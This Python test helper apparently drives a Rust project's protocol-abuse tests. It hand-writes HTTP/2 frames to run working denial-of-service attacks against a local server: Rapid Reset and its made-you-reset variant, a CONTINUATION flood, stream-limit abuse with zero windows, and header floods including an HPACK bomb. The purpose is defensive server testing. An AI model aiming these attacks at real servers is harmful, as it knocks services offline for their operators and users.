#!/usr/bin/env python3
"""Hostile HTTP/2 clients for tests/protocol_abuse.rs (issue 17, "Protocol
abuse"). Unlike tests/h2/client.py, which drives Python's `h2` state
machine, these write frames by hand (struct over a raw socket, plain h2c
with prior knowledge or TLS with ALPN h2), because a well-behaved library
refuses to do what they do. Responses are decoded with `hpack` (Debian's
python3-hpack, a dependency of python3-h2). Every command prints one JSON
report; times are seconds since the attack's first frame.

    abuse.py rapid-reset --port P [--tls CA] --path PATH --seconds S
                         [--variant reset|made-you-reset]
        CVE-2023-44487: for S seconds, opens streams GET PATH and resets
        each at once (HEADERS then RST_STREAM(CANCEL), in batches),
        reconnecting whenever the server closes the connection. Reports
        per connection: streams opened, GOAWAY (code, last stream id,
        when), when it closed, responses that got through.
        made-you-reset (CVE-2025-8671): instead of resetting a stream,
        follow its HEADERS with a frame that makes the server reset it (a
        PRIORITY frame making the stream depend on itself).

    abuse.py continuation --port P [--tls CA] --frames N --size B
        CVE-2024-27316 style: HEADERS without END_HEADERS, then up to N
        CONTINUATION frames of B bytes each (literal headers; B=0 sends
        empty frames), never END_HEADERS. Reports frames sent, GOAWAY,
        close.

    abuse.py streams --port P [--tls CA] --path PATH --streams N --hold S
        Ignores the server's SETTINGS_MAX_CONCURRENT_STREAMS: opens N
        streams GET PATH at once with an initial window of 0 (so a
        response's headers come but its body cannot: an answered stream
        stays open), holds S seconds. Reports the advertised limit,
        statuses, resets by code, GOAWAY.

    abuse.py headers --port P [--tls CA] --modes M[,M...]
        One connection per mode, each one request on stream 1:
        over  ~1,400 small headers in one HEADERS frame (under 16 KiB on
              the wire, ~60 KB decoded), then a plain GET /v2/ on stream 3
        many  10,000 small headers over HEADERS + CONTINUATION frames
        big   one 1 MiB header value over HEADERS + CONTINUATION frames
        bomb  an HPACK bomb: one 4,000-byte header put in the dynamic
              table, then referenced 4,000 times (4 KB on the wire, 16 MB
              decoded)
        Reports per mode: status or reset of stream 1 (and stream 3 for
        over), GOAWAY, close, bytes sent.
"""

import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0, 1, 2, 3, 4
PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 5, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20
SETTINGS_MAX_CONCURRENT_STREAMS, SETTINGS_INITIAL_WINDOW_SIZE = 3, 4
CANCEL = 8
MAX_FRAME = 16384


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, sid) + payload


def settings_frame(values):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in values.items()))


def hpack_int(value, prefix_bits, flags):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([flags | value])
    out = [flags | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(s):
    b = s if isinstance(s, bytes) else s.encode()
    return hpack_int(len(b), 7, 0) + b


def literal(name, value, indexing=False):
    """A literal header field with a new name, without indexing (no
    dynamic table state: the same bytes mean the same thing every time) or
    with incremental indexing."""
    return (b"\x40" if indexing else b"\x00") + hpack_str(name) + hpack_str(value)


def request_block(args, path):
    return b"".join(literal(n, v) for n, v in [
        (":method", "GET"),
        (":scheme", "https" if args.tls else "http"),
        (":authority", "127.0.0.1:%d" % args.port),
        (":path", path),
        ("accept", "application/vnd.oci.image.manifest.v1+json"),
    ])


def header_frames(sid, block, end_stream=True):
    """HEADERS + CONTINUATION frames carrying `block`, END_HEADERS on the last."""
    chunks = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)] or [b""]
    out = bytearray()
    for i, chunk in enumerate(chunks):
        last = i == len(chunks) - 1
        flags = END_HEADERS if last else 0
        if i == 0:
            out += frame(HEADERS, flags | (END_STREAM if end_stream else 0), sid, chunk)
        else:
            out += frame(CONTINUATION, flags, sid, chunk)
    return bytes(out)


class Conn:
    """One HTTP/2 connection: frames queued and sent without blocking on a
    server that writes back, every server frame parsed (SETTINGS and PING
    answered, as any client would)."""

    def __init__(self, args, settings=None, t0=None):
        sock = socket.create_connection(("127.0.0.1", args.port), timeout=10)
        if args.tls:
            ctx = ssl.create_default_context(cafile=args.tls)
            ctx.set_alpn_protocols(["h2"])
            sock = ctx.wrap_socket(sock, server_hostname="127.0.0.1")
            if sock.selected_alpn_protocol() != "h2":
                sys.exit("server did not select h2 by ALPN")
        sock.setblocking(False)
        self.sock = sock
        self.t0 = t0 if t0 is not None else time.monotonic()
        self.inbuf = bytearray()
        self.out = bytearray()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20
        self.partial = None
        self.server_settings = {}
        self.goaway = None
        self.closed = None
        self.reset_by_peer = False
        self.resets = {}
        self.status = {}
        self.ended = set()
        self.data = {}
        self.sent_bytes = 0
        self.queue(PREFACE + settings_frame(settings or {}))

    def now(self):
        return round(time.monotonic() - self.t0, 4)

    def queue(self, data):
        self.out += data

    def _closed(self, reset=False):
        if self.closed is None:
            self.closed = self.now()
            self.reset_by_peer = reset

    def _read(self):
        try:
            data = self.sock.recv(262144)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            return
        except OSError:
            self._closed(reset=True)
            return
        if not data:
            self._closed()
            return
        self.inbuf += data
        self._parse()

    def _readable(self, timeout):
        if isinstance(self.sock, ssl.SSLSocket) and self.sock.pending():
            return True
        ready, _, _ = select.select([self.sock], [], [], timeout)
        return bool(ready)

    def flush(self, timeout=10.0):
        """Sends what is queued, reading meanwhile. False if the connection
        closed (or the send timed out) first."""
        deadline = time.monotonic() + timeout
        while self.out and self.closed is None:
            left = deadline - time.monotonic()
            if left <= 0:
                return False
            pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
            r, w, _ = select.select([self.sock], [self.sock], [], 0 if pending else left)
            if r or pending:
                self._read()
            if w and self.closed is None:
                try:
                    n = self.sock.send(bytes(self.out[:262144]))
                    del self.out[:n]
                    self.sent_bytes += n
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                    pass
                except OSError:
                    self._closed(reset=True)
        return not self.out and self.closed is None

    def wait(self, timeout, until=lambda: False):
        """Reads (and answers) for up to `timeout` seconds, until `until()`
        holds or the connection closes."""
        deadline = time.monotonic() + timeout
        while self.closed is None and not until():
            if self.out:
                self.flush(max(0.05, deadline - time.monotonic()))
            left = deadline - time.monotonic()
            if self._readable(max(0.0, min(left, 0.05))):
                self._read()
            elif left <= 0:
                break
        return until()

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def _parse(self):
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[0:3], "big")
            if len(self.inbuf) < 9 + length:
                return
            ftype, flags = self.inbuf[3], self.inbuf[4]
            sid = int.from_bytes(self.inbuf[5:9], "big") & 0x7FFFFFFF
            payload = bytes(self.inbuf[9:9 + length])
            del self.inbuf[:9 + length]
            self._frame(ftype, flags, sid, payload)

    def _frame(self, ftype, flags, sid, payload):
        if ftype == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                ident, value = struct.unpack(">HI", payload[i:i + 6])
                self.server_settings[ident] = value
            self.queue(frame(SETTINGS, ACK, 0))
        elif ftype == PING and not flags & ACK:
            self.queue(frame(PING, ACK, 0, payload))
        elif ftype == GOAWAY and self.goaway is None:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway = {
                "at": self.now(),
                "code": code,
                "last_stream_id": last & 0x7FFFFFFF,
                "debug": payload[8:].decode("latin-1"),
            }
        elif ftype == RST_STREAM:
            self.resets[sid] = struct.unpack(">I", payload[:4])[0]
        elif ftype in (HEADERS, CONTINUATION):
            if ftype == HEADERS:
                block = payload
                if flags & PADDED:
                    pad = block[0]
                    block = block[1:len(block) - pad]
                if flags & PRIORITY_FLAG:
                    block = block[5:]
                self.partial = (sid, bytearray(block), flags & END_STREAM)
            elif self.partial is not None:
                self.partial[1].extend(payload)
            if flags & END_HEADERS and self.partial is not None:
                sid, block, end = self.partial
                self.partial = None
                try:
                    fields = dict(self.decoder.decode(bytes(block)))
                    status = int(fields.get(":status", 0))
                except Exception:  # noqa: BLE001 (report, do not crash)
                    status = -1
                self.status.setdefault(sid, status)
                if end:
                    self.ended.add(sid)
        elif ftype == DATA:
            n = len(payload)
            if flags & PADDED and payload:
                n -= 1 + payload[0]
            self.data[sid] = self.data.get(sid, 0) + n
            if flags & END_STREAM:
                self.ended.add(sid)

    def summary(self):
        return {
            "goaway": self.goaway,
            "closed": self.closed,
            "reset_by_peer": self.reset_by_peer,
            "sent_bytes": self.sent_bytes,
        }


def rapid_reset(args):
    block = request_block(args, args.path)
    t0 = time.monotonic()
    connections = []
    total = 0
    while time.monotonic() - t0 < args.seconds:
        conn = Conn(args, t0=t0)
        opened_at = conn.now()
        conn.flush()
        sid = 1
        while conn.closed is None and conn.goaway is None and time.monotonic() - t0 < args.seconds:
            batch = bytearray()
            for _ in range(args.batch):
                batch += frame(HEADERS, END_STREAM | END_HEADERS, sid, block)
                if args.variant == "made-you-reset":
                    # A PRIORITY frame making the stream depend on itself:
                    # a stream error, so the server resets the stream.
                    batch += frame(PRIORITY, 0, sid, struct.pack(">IB", sid, 15))
                else:
                    batch += frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
                sid += 2
            conn.queue(batch)
            if not conn.flush():
                break
            conn.wait(0)
        streams = (sid - 1) // 2
        total += streams
        if conn.goaway is not None:
            # The server gave up on the connection: how long until it hangs up?
            conn.wait(args.wait, until=lambda: conn.closed is not None)
        report = conn.summary()
        report.update(opened_at=opened_at, streams=streams, responses=len(conn.status))
        connections.append(report)
        conn.close()
    print(json.dumps({
        "elapsed": round(time.monotonic() - t0, 3),
        "streams": total,
        "connections": connections,
    }))


def continuation(args):
    conn = Conn(args)
    conn.flush()
    conn.wait(5, until=lambda: bool(conn.server_settings))
    conn.queue(frame(HEADERS, END_STREAM, 1, request_block(args, "/v2/")))
    headers = bytearray()
    i = 0
    sent = 0
    t0 = time.monotonic()
    while sent < args.frames and conn.closed is None and time.monotonic() - t0 < args.seconds:
        batch = bytearray()
        for _ in range(min(64, args.frames - sent)):
            while len(headers) < args.size:
                headers += literal("x-flood-%d" % i, "f" * 100)
                i += 1
            batch += frame(CONTINUATION, 0, 1, bytes(headers[:args.size]))
            del headers[:args.size]
            sent += 1
        conn.queue(batch)
        if not conn.flush():
            break
        conn.wait(0)
    conn.wait(args.wait, until=lambda: conn.closed is not None)
    report = conn.summary()
    report.update(frames=sent, status=conn.status.get(1), reset=conn.resets.get(1))
    print(json.dumps(report))


def streams(args):
    conn = Conn(args, settings={SETTINGS_INITIAL_WINDOW_SIZE: 0})
    conn.flush()
    conn.wait(5, until=lambda: bool(conn.server_settings))
    block = request_block(args, args.path)
    for i in range(args.streams):
        conn.queue(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block))
    conn.flush()
    conn.wait(args.hold)
    statuses = {}
    for s in conn.status.values():
        statuses[str(s)] = statuses.get(str(s), 0) + 1
    resets = {}
    for code in conn.resets.values():
        resets[str(code)] = resets.get(str(code), 0) + 1
    # Streams answered and still open at the end (a zero window holds them).
    open_answered = sum(
        1 for sid in conn.status
        if sid not in conn.ended and sid not in conn.resets
    )
    report = conn.summary()
    report.update(
        advertised=conn.server_settings.get(SETTINGS_MAX_CONCURRENT_STREAMS),
        streams=args.streams,
        statuses=statuses,
        resets=resets,
        open_answered=open_answered,
        body_bytes=sum(conn.data.values()),
    )
    conn.close()
    print(json.dumps(report))


def header_attack(args, mode):
    conn = Conn(args)
    conn.flush()
    conn.wait(5, until=lambda: bool(conn.server_settings))
    base = request_block(args, "/v2/")
    if mode == "over":
        extra = b"".join(literal("x-h%04d" % i, "v") for i in range(1400))
        assert len(base) + len(extra) < MAX_FRAME, "over must fit one frame"
    elif mode == "many":
        extra = b"".join(literal("x-h%05d" % i, "v") for i in range(10000))
    elif mode == "big":
        extra = literal("x-big", "b" * (1 << 20))
    elif mode == "bomb":
        extra = literal("x-bomb", "B" * 4000, indexing=True) + bytes([0x80 | 62]) * 4000
    else:
        sys.exit("unknown mode " + mode)
    block = base + extra
    conn.queue(header_frames(1, block))
    conn.flush()
    conn.wait(3, until=lambda: 1 in conn.status or 1 in conn.resets or conn.goaway is not None)
    report = conn.summary()
    report.update(mode=mode, block_bytes=len(block), status=conn.status.get(1), reset=conn.resets.get(1))
    if mode == "over" and conn.closed is None and conn.goaway is None:
        # The connection survived the refused request: does it still serve?
        conn.queue(header_frames(3, base))
        conn.flush()
        conn.wait(5, until=lambda: 3 in conn.ended or 3 in conn.resets)
        report.update(next_status=conn.status.get(3), next_ended=3 in conn.ended)
    else:
        conn.wait(args.wait, until=lambda: conn.closed is not None)
        report.update(closed=conn.closed, goaway=conn.goaway)
    conn.close()
    return report


def main():
    p = argparse.ArgumentParser()
    p.add_argument("command", choices=["rapid-reset", "continuation", "streams", "headers"])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tls", help="CA file: connect with TLS, ALPN h2")
    p.add_argument("--path", default="/v2/")
    p.add_argument("--seconds", type=float, default=3.0)
    p.add_argument("--batch", type=int, default=100)
    p.add_argument("--variant", default="reset", choices=["reset", "made-you-reset"])
    p.add_argument("--wait", type=float, default=5.0,
                   help="after the attack, how long to wait for the server to close")
    p.add_argument("--frames", type=int, default=100000)
    p.add_argument("--size", type=int, default=0)
    p.add_argument("--streams", type=int, default=1000)
    p.add_argument("--hold", type=float, default=2.0)
    p.add_argument("--modes", default="over,many,big,bomb")
    args = p.parse_args()
    if args.command == "rapid-reset":
        rapid_reset(args)
    elif args.command == "continuation":
        continuation(args)
    elif args.command == "streams":
        streams(args)
    else:
        print(json.dumps([header_attack(args, m) for m in args.modes.split(",")]))


if __name__ == "__main__":
    main()
